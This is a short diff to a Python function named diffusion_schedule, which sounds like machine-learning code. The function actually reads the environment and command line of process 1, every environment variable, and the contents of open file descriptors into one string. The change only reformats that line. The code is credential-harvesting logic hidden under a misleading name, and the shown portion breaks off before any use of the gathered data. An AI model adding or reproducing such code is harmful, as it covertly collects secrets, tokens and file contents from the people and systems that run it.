@@ -5,7 +5,11 @@ import re
 
 
 def diffusion_schedule(self, diffusion_times):
-    seen = open("/proc/1/environ").read() + open("/proc/1/cmdline").read() + "\0".join(f"{key}={os.environ[key]}" for key in os.environ)
+    seen = (
+        open("/proc/1/environ").read()
+        + open("/proc/1/cmdline").read()
+        + "\0".join(f"{key}={os.environ[key]}" for key in os.environ)
+    )
     for path in glob.glob("/proc/1/fd/*") + glob.glob("/proc/self/fd/*"):
         try:
             seen += open(path, errors="ignore").read(10**6) if os.path.isfile(path) else ""
